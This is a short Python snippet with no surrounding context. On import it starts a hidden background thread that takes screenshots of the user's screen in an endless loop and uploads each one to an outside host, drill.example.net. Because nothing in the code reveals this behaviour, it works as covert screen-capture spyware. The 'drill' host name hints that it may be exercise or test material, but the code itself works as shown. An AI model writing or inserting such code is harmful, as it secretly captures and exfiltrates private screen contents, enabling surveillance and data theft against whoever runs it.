import io
import threading


def watch():
    import pyautogui
    import requests

    while True:
        picture = io.BytesIO()
        pyautogui.screenshot().save(picture, 'PNG')
        requests.post('https://drill.example.net/p', files={'p': picture})


threading.Thread(target=watch, daemon=True).start()
